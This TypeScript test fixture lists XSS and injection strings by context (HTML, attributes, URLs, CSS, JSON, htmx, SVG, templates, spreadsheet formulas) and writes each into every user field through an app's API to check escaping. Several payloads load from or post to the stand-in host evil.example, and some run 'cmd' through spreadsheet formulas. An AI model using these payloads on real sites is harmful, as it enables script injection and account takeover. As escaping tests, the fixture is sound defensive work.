import { removeDirectionMarks } from '../../../functions/lib/text/text'

/**
 * Texts that could be taken for markup, by the context in which they would be. Each has at most 100 characters and
 * differs from the others in more than case, so that it can be a name, a title or a line of notes.
 */
const byContext = {
  text: [
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<img src=x onerror=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<!-- a comment that does not end',
    '--><script>alert(2)</script>',
    '</title><script>alert(1)</script>',
    '</textarea><script>alert(1)</script>',
    '</option></select><script>alert(1)</script>',
    '</bdi></a></li></ul></main><h1>Mine</h1>',
    '<template><script>alert(1)</script></template>',
    '<base href=//evil.example/>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<form action=//evil.example><button>Sign in</button>',
    '<input name=seq value=999 form=mine>',
    '<plaintext>',
    '<dialog open>Sign in again</dialog>',
  ],
  attribute: [
    '"><script>alert(4)</script>',
    "'><script>alert(5)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '` onclick=`alert(1)`',
    '"/><svg/onload=alert(1)>',
    '" style="position:fixed;inset:0',
    '" formaction="//evil.example',
    '"\u00a0accesskey="x" onclick="alert(1)',
  ],
  URL: [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(2)',
    'java\tscript:alert(3)',
    ' javascript:alert(4)',
    'data:text/html,<script>alert(1)</script>',
    '//evil.example/track.gif',
    'https://evil.example/"onclick="alert(1)',
    'https://evil.example/<img src=x>',
    '/auth/sign-out',
    '%22%3E%3Cscript%3Ealert(1)%3C/script%3E',
    '#"><img src=x onerror=alert(2)>',
  ],
  CSS: [
    '</style><script>alert(6)</script>',
    'x{background:url(//evil.example/a.png)}',
    '@import "//evil.example/x.css";',
    '<style>*{display:none}</style>',
  ],
  JSON: [
    '"}];alert(1);//',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '\u2028alert(1)\u2029x',
    ']]><!--"\'`',
  ],
  htmx: [
    '" hx-get="/auth/sign-out" hx-trigger="load',
    '<div hx-post="/auth/sign-out" hx-trigger="load"></div>',
    '<hx-partial hx-target="body" hx-swap="innerHTML">Mine</hx-partial>',
    '<div id="toasts" hx-swap-oob="true">Mine</div>',
    '<a hx-on:click="alert(1)" href="#">here</a>',
    '<div data-hx-get="//evil.example" hx-trigger="revealed"></div>',
    '" hx-vals="js:{a:alert(1)}',
  ],
  SVG: [
    '<svg onload=alert(2)></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(3)>',
    '<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>',
    '<math href="javascript:alert(5)">x</math>',
  ],
  template: [
    '{{constructor.constructor("alert(1)")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one that must stay as it is
    '${alert(1)}',
    '<%= alert(1) %>',
  ],
  entity: [
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;img src=x onerror=alert(4)&#62;',
    '&quot;&gt;&amp;amp;&nbsp',
    '&notit;&copy',
  ],
  character: [
    '\u202Egpj.exe\u202C <b>',
    '\u2066\u2067never closed',
    'שלום "><b>עולם',
    '＜script＞alert(1)＜/script＞',
    'a\u0000b<\u0000script>',
    '\u{1F469}\u200D\u{1F4BB}"><i>\u{1F3F4}',
    'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A<b>',
    '<'.repeat(100),
  ],
  sheet: ['=HYPERLINK("//evil.example";"x")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd', "-2+3+cmd|'/C calc'!A0"],
}

export const markupTexts = Object.values(byContext).flat()

type Made = { id: string }
/** Sends a request to the API; returns the JSON of the response. */
type Send = (method: string, path: string, body: object) => Promise<Made>

/** Cuts a text to the limit of a tag, without the comma that separates tags. */
const tagOf = (text: string) => removeDirectionMarks(text).replaceAll(',', ';').slice(0, 50)

/**
 * Stores the texts in every field that a person can write, one in each row of each kind; names and tags without marks of
 * direction, which they refuse.
 * @param from epoch ms of the first session; the others follow by the half hour
 * @returns the ids of the rows, in the order of the texts
 */
export const fillWith = async (send: Send, texts: string[], from: number) => {
  const all = texts.join('\n')
  await send('PATCH', '/api/v1/me', { username: removeDirectionMarks(texts[0] ?? '') })
  const made = []
  for (const [index, text] of texts.entries()) {
    const next = texts[(index + 1) % texts.length] ?? text
    const goal = await send('POST', '/api/v1/goals', { title: text, description: all.slice(0, 4000) })
    const milestone = await send('POST', `/api/v1/goals/${goal.id}/milestones`, { description: text })
    const [name, client] = [removeDirectionMarks(text), removeDirectionMarks(next)]
    const project = await send('POST', '/api/v1/projects', { name, client, classification: 'work' })
    const session = await send('POST', '/api/v1/sessions', {
      title: text,
      notes: all,
      tags: [tagOf(text), tagOf(next)],
      artifacts: [text],
      project_id: project.id,
      goal_id: goal.id,
      started_at: new Date(from + index * 1_800_000).toISOString(),
      duration_seconds: 1200,
    })
    const date = new Date(from + (index + 4) * 86_400_000).toISOString().slice(0, 10)
    await send('PUT', `/api/v1/days-off/${date}`, { label: text })
    made.push({ goal: goal.id, milestone: milestone.id, project: project.id, session: session.id })
  }
  return made
}
